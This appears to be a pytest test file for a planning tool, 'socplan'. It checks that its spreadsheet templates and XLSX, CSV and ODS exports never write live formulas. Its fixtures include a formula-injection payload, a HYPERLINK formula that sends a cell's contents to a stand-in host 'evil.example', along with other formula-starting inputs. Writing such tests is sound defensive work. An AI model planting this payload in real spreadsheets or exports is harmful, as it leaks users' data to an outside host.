"""Nothing a plan holds becomes a live formula in anything socplan writes: the template (every
sheet, the hidden Lists sheet included), the XLSX export and the CSV export."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest
from builders import milestone, milestones

from socplan.cells import FORMULA_STARTS, formula_like, neutralise, put
from socplan.cli import main
from socplan.intake.template import write_template
from socplan.intake.workbook import Vocabulary, parse_workbook
from socplan.periods import Period
from socplan.store import Store

Q3 = Period(2019, 3)
EVIL = '=HYPERLINK("http://evil.example/?x="&B2,"x")'
STARTS = [EVIL, "+1+2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
THEMES = ("=Pursue()", "+Prevent", "Protect", "Prepare")
STATUSES = ("=Not started", "On track", "At risk", "Off track", "Complete", "Cancelled")


def hostile(i: int) -> str:
    """A different formula-like start for each field."""
    return STARTS[i % len(STARTS)] + f" {i}"


def hostile_plan():
    import pandas as pd

    recs = pd.DataFrame(
        [
            dict(
                ref=hostile(0),
                text=hostile(1),
                theme=THEMES[0],
                lead=EVIL,
                partners=hostile(2),
                public=True,
            )
        ]
    )
    ms = milestones(
        milestone(
            hostile(3),
            recommendation=hostile(0),
            milestone=hostile(4),
            owner=hostile(5),
            reason=hostile(6),
            status=STATUSES[0],
            update=hostile(7),
        ),
        milestone(
            "R1.2",
            recommendation=hostile(0),
            milestone=EVIL,
            owner=EVIL,
            update="-",
            status="On track",
        ),
    )
    return recs, ms


def cells(path: Path):
    book = openpyxl.load_workbook(path)
    for ws in book:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield ws.title, cell


def test_put_never_writes_a_formula():
    book = openpyxl.Workbook()
    ws = book.active
    for i, start in enumerate(FORMULA_STARTS, start=1):
        quoted = put(ws, i, 1, f"{start}1+1")
        assert quoted.data_type == "s" and quoted.quotePrefix and quoted.value == f"{start}1+1"
        prefixed = put(ws, i, 2, f"{start}1+1", guard="apostrophe")
        assert prefixed.data_type == "s" and prefixed.value == f"'{start}1+1"
    assert put(ws, 9, 1, 3).data_type == "n" and not put(ws, 9, 2, "plain").quotePrefix
    assert formula_like("=x") and not formula_like("x=") and neutralise(5) == 5
    assert put(ws, 10, 1, "a\x1fb\x00").value == "ab"


def test_template_holds_no_formula(tmp_path: Path):
    recs, ms = hostile_plan()
    path = tmp_path / "template.xlsx"
    write_template(
        path,
        Q3,
        recs,
        ms,
        themes=THEMES,
        statuses=STATUSES,
        owners=[EVIL, "@owner"],
        title=EVIL,
        note="=note()",
    )
    seen = set()
    for sheet, cell in cells(path):
        assert cell.data_type != "f", (sheet, cell.coordinate, cell.value)
        if formula_like(cell.value):
            # Stored as text with Excel's quote prefix: shown and read back as written, and
            # kept as text if a partner edits the cell.
            assert cell.quotePrefix, (sheet, cell.coordinate)
            seen.add(sheet)
    assert {"Instructions", "Recommendations", "Milestones", "Lists"} <= seen
    book = openpyxl.load_workbook(path)
    for ws in book:
        for validation in ws.data_validations.dataValidation:
            # Dropdowns point at cells of the Lists sheet; no name is ever spliced into a formula.
            assert re.fullmatch(r"=?Lists!\$[A-Z]+\$\d+:\$[A-Z]+\$\d+", validation.formula1)


def test_template_reads_back_as_written(tmp_path: Path):
    recs, ms = hostile_plan()
    path = tmp_path / "template.xlsx"
    write_template(path, Q3, recs, ms, themes=THEMES, statuses=STATUSES)
    parsed = parse_workbook(path.read_bytes(), vocabulary=Vocabulary(THEMES, STATUSES))
    assert parsed.recommendations.loc[0, "lead"] == EVIL
    assert parsed.milestones.loc[1, "milestone"] == EVIL
    assert parsed.milestones.loc[0, "owner"] == hostile(5).strip()


@pytest.fixture
def hostile_db(tmp_path: Path) -> str:
    url = f"sqlite:///{tmp_path / 'plan.db'}"
    recs, ms = hostile_plan()
    Store(url).commit_import(recs, ms, Q3, data=b"", file_name="x.xlsx", imported_by="t")
    return url


def test_exports_hold_no_formula(runner, tmp_path: Path, hostile_db: str):
    xlsx, csv_path = tmp_path / "plan.xlsx", tmp_path / "plan.csv"
    for fmt, out in (("xlsx", xlsx), ("csv", csv_path)):
        result = runner.invoke(
            main, ["export", "--format", fmt, "-o", str(out), "--db", hostile_db]
        )
        assert result.exit_code == 0, result.output
    values = []
    for sheet, cell in cells(xlsx):
        assert cell.data_type != "f", (sheet, cell.coordinate, cell.value)
        values.append(cell.value)
    rows = list(csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8"))))
    values += [v for row in rows for v in row]
    assert "'" + EVIL in values
    for value in values:
        assert not formula_like(value), value


def ods_cells(path: Path):
    """(sheet, value, element) for every cell of an .ods that holds text, as the file has it."""
    import zipfile
    from xml.etree import ElementTree as ET

    from socplan.opendocument import NS

    table, text = f"{{{NS['table']}}}", f"{{{NS['text']}}}"
    root = ET.fromstring(zipfile.ZipFile(path).read("content.xml"))
    for sheet in root.iter(f"{table}table"):
        for cell in sheet.iter(f"{table}table-cell"):
            shown = "\n".join("".join(p.itertext()) for p in cell.iter(f"{text}p"))
            yield sheet.get(f"{table}name"), shown, cell


def test_ods_template_holds_no_formula_and_reads_back_as_written(tmp_path: Path):
    recs, ms = hostile_plan()
    path = tmp_path / "template.ods"
    words = {"themes": THEMES, "statuses": STATUSES}
    write_template(path, Q3, recs, ms, owners=[EVIL, "@owner"], title=EVIL, fmt="ods", **words)
    seen = set()
    for sheet, shown, cell in ods_cells(path):
        # ODF makes a cell a formula only by table:formula, which is never written.
        assert not any(key.endswith("}formula") for key in cell.attrib), (sheet, shown)
        if formula_like(shown.lstrip("\n")):
            seen.add(sheet)
    assert {"Instructions", "Recommendations", "Milestones", "Lists"} <= seen
    parsed = parse_workbook(path.read_bytes(), vocabulary=Vocabulary(THEMES, STATUSES))
    assert parsed.recommendations.loc[0, "lead"] == EVIL
    assert parsed.milestones.loc[1, "milestone"] == EVIL
    assert parsed.milestones.loc[0, "owner"] == hostile(5).strip()


def test_ods_export_holds_no_formula(runner, tmp_path: Path, hostile_db: str):
    out = tmp_path / "plan.ods"
    result = runner.invoke(main, ["export", "-o", str(out), "--db", hostile_db])
    assert result.exit_code == 0, result.output
    values = []
    for sheet, shown, cell in ods_cells(out):
        assert not any(key.endswith("}formula") for key in cell.attrib), (sheet, shown)
        values.append(shown)
    assert "'" + EVIL in values
    for value in values:
        assert not formula_like(value), value
